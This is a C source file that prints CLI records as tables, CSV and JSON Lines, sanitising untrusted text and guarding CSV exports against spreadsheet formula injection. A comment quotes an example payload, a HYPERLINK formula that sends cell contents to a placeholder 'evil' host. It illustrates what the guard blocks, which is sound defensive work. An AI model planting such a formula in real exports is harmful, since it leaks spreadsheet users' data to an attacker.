/* output.c - tables, CSV and JSON Lines for the CLI.
 *
 * Everything that came from outside (actions, customers, names, headers,
 * bodies) goes through sanitize_dup before it reaches a terminal in table
 * or CSV form; JSON output escapes control characters by itself, and text
 * that is not valid UTF-8 is repaired (U+FFFD) so that the line stays JSON.
 */
#include <getopt.h>
#include <jansson.h>
#include <stdlib.h>
#include <string.h>

#include "cli_internal.h"
#include "hd_duration.h"
#include "hd_sanitize.h"
#include "hd_util.h"

/* A column wider than this is cut (with "…") in tables; json/csv keep all. */
#define TABLE_MAX_WIDTH 40
/* Rows buffered before the widths are fixed and printing starts. */
#define TABLE_BATCH 500

bool cli_parse_format(const char *cmd, const char *text, cli_format *out)
{
    if (strcmp(text, "table") == 0)
        *out = FORMAT_TABLE;
    else if (strcmp(text, "json") == 0)
        *out = FORMAT_JSON;
    else if (strcmp(text, "csv") == 0)
        *out = FORMAT_CSV;
    else {
        cli_usage_error(cmd, "--format: '%s' is not one of table, json, csv", text);
        return false;
    }
    return true;
}

int cli_only_format(const char *cmd, int argc, char **argv, cli_format *out)
{
    static const struct option longopts[] = {
        { "format", required_argument, NULL, 'f' },
        { NULL, 0, NULL, 0 },
    };
    *out = FORMAT_TABLE;
    int opt;
    while ((opt = getopt_long(argc, argv, ":", longopts, NULL)) != -1) {
        if (opt != 'f')
            return cli_bad_option(cmd, opt, argv);
        if (!cli_parse_format(cmd, optarg, out))
            return 2;
    }
    if (optind < argc)
        return cli_usage_error(cmd, "unexpected argument '%s'", argv[optind]);
    return -1;
}

/* ---- tables ---- */

void cli_table_init(cli_table *t, FILE *out, int ncols, const char *const *headers,
                    const bool *right)
{
    memset(t, 0, sizeof *t);
    t->out = out;
    t->ncols = ncols;
    t->headers = headers;
    t->right = right;
    t->utf8 = locale_is_utf8();
    t->width = hd_xcalloc((size_t)ncols, sizeof *t->width);
}

void cli_table_add(cli_table *t, const char *const *cells)
{
    t->cells = hd_xgrow(t->cells, t->nrows, &t->cap, (size_t)t->ncols * sizeof *t->cells, 64);
    for (int c = 0; c < t->ncols; c++)
    {
        char *cell = sanitize_dup(cells[c] ? cells[c] : "", 0);
        /* LANG=C: one '?' per character, as utf8_width counts it. */
        if (!t->utf8)
            text_ascii_fold(cell);
        t->cells[t->nrows * t->ncols + c] = cell;
    }
    t->nrows++;
    if (t->nrows >= TABLE_BATCH)
        cli_table_flush(t);
}

static void put_cell(const cli_table *t, int c, const char *text, bool last)
{
    size_t w = utf8_width(text);
    size_t col = t->width[c];
    bool right = t->right && t->right[c];
    if (last && !right) {
        /* Nothing follows: the last column is never cut or padded. */
        fputs(text, t->out);
        return;
    }
    if (w > col) {
        /* Cut to fit, keeping one column for the ellipsis. */
        size_t keep = utf8_fit(text, col > 0 ? col - 1 : 0);
        char *prefix = hd_xstrndup(text, keep);
        fputs(prefix, t->out);
        fputs(t->utf8 ? "\u2026" : "~", t->out);
        /* A wide character may leave the cut one column short: pad it. */
        for (size_t used = utf8_width(prefix) + 1; used < col; used++)
            fputc(' ', t->out);
        free(prefix);
    } else if (right) {
        for (size_t i = w; i < col; i++)
            fputc(' ', t->out);
        fputs(text, t->out);
    } else {
        fputs(text, t->out);
        for (size_t i = w; i < col; i++)
            fputc(' ', t->out);
    }
    if (!last)
        fputs("  ", t->out);
}

void cli_table_flush(cli_table *t)
{
    if (!t->started) {
        for (int c = 0; c < t->ncols; c++) {
            size_t w = utf8_width(t->headers[c]);
            for (int r = 0; r < t->nrows; r++) {
                size_t cw = utf8_width(t->cells[r * t->ncols + c]);
                if (cw > w)
                    w = cw;
            }
            t->width[c] = w > TABLE_MAX_WIDTH ? TABLE_MAX_WIDTH : w;
        }
        for (int c = 0; c < t->ncols; c++)
            put_cell(t, c, t->headers[c], c == t->ncols - 1);
        fputc('\n', t->out);
        t->started = true;
    }
    for (int r = 0; r < t->nrows; r++) {
        for (int c = 0; c < t->ncols; c++) {
            char **cell = &t->cells[r * t->ncols + c];
            put_cell(t, c, *cell, c == t->ncols - 1);
            free(*cell);
            *cell = NULL;
        }
        fputc('\n', t->out);
    }
    t->nrows = 0;
}

void cli_table_free(cli_table *t)
{
    cli_table_flush(t);
    free(t->cells);
    free(t->width);
    memset(t, 0, sizeof *t);
}

/* ---- CSV (RFC 4180) ---- */

/* A plain decimal number ("-5", "+1.25"): a spreadsheet reads it as the
 * number it is, so it is left alone. */
static bool plain_number(const char *s)
{
    if (*s == '-' || *s == '+')
        s++;
    if (*s < '0' || *s > '9')
        return false;
    while (*s >= '0' && *s <= '9')
        s++;
    if (*s == '.') {
        s++;
        if (*s < '0' || *s > '9')
            return false;
        while (*s >= '0' && *s <= '9')
            s++;
    }
    return !*s;
}

bool cli_csv_needs_guard(const char *cell)
{
    /* Formula injection (OWASP "CSV injection"): a spreadsheet evaluates a
     * cell that starts with = + - @ (and, after trimming, TAB or CR), so an
     * action like =HYPERLINK("http://evil/?"&A1) would run when the export
     * is opened. */
    if (!cell || !cell[0] || !strchr("=+-@\t\r", cell[0]))
        return false;
    /* A plain number and the lone "-" of "no value" are not formulas. */
    return !plain_number(cell) && strcmp(cell, "-") != 0;
}

void cli_csv_row(FILE *out, int ncols, const char *const *cells)
{
    for (int c = 0; c < ncols; c++) {
        /* Keep newlines and tabs: CSV quoting carries them safely, and a
         * spreadsheet reader expects the original text. */
        char *s = sanitize_dup(cells[c] ? cells[c] : "", SANITIZE_KEEP_NEWLINES | SANITIZE_KEEP_TABS);
        if (cli_csv_needs_guard(s)) {
            /* A leading ' makes the spreadsheet show the text as text. */
            char *guarded = hd_xasprintf("'%s", s);
            free(s);
            s = guarded;
        }
        if (c)
            fputc(',', out);
        if (strpbrk(s, ",\"\r\n")) {
            fputc('"', out);
            for (const char *p = s; *p; p++) {
                if (*p == '"')
                    fputc('"', out);
                fputc(*p, out);
            }
            fputc('"', out);
        } else {
            fputs(s, out);
        }
        free(s);
    }
    fputs("\r\n", out);
}

/* ---- JSON ---- */

json_t *cli_json_strn(const char *s, size_t n)
{
    if (!s)
        return json_null();
    json_t *j = json_stringn(s, n);
    if (j)
        return j;
    /* Not valid UTF-8 (or holds NULs): repair it rather than drop the field. */
    hd_buf b = { 0 };
    sanitize_append(&b, s, n, SANITIZE_KEEP_NEWLINES | SANITIZE_KEEP_TABS);
    j = json_string(hd_buf_str(&b));
    hd_buf_free(&b);
    return j ? j : json_string("");
}

json_t *cli_json_str(const char *s)
{
    return s ? cli_json_strn(s, strlen(s)) : json_null();
}

void cli_json_print(FILE *out, json_t *obj)
{
    char *text = json_dumps(obj, JSON_COMPACT | JSON_ENCODE_ANY);
    if (text) {
        fputs(text, out);
        fputc('\n', out);
        free(text);
    }
    json_decref(obj);
}

void cli_circuit_state(const circuit *c, int64_t now_ms, char *out, size_t outlen)
{
    breaker_describe(c, now_ms, false, out, outlen);
}

void cli_message_json_fields(json_t *obj, const message *m)
{
    char ts[32];
    hd_time_rfc3339(m->created_at, ts);
    json_object_set_new(obj, "id", json_integer(m->id));
    json_object_set_new(obj, "created_at", json_string(ts));
    json_object_set_new(obj, "action", cli_json_str(m->action));
    json_object_set_new(obj, "customer", cli_json_str(m->customer));
    json_object_set_new(obj, "site", cli_json_str(m->site_name));
    json_object_set_new(obj, "status", json_string(msg_status_name(m->status)));
    json_object_set_new(obj, "response_code",
                        m->response_code ? json_integer(m->response_code) : json_null());
    json_object_set_new(obj, "attempts", json_integer(m->attempts));
}

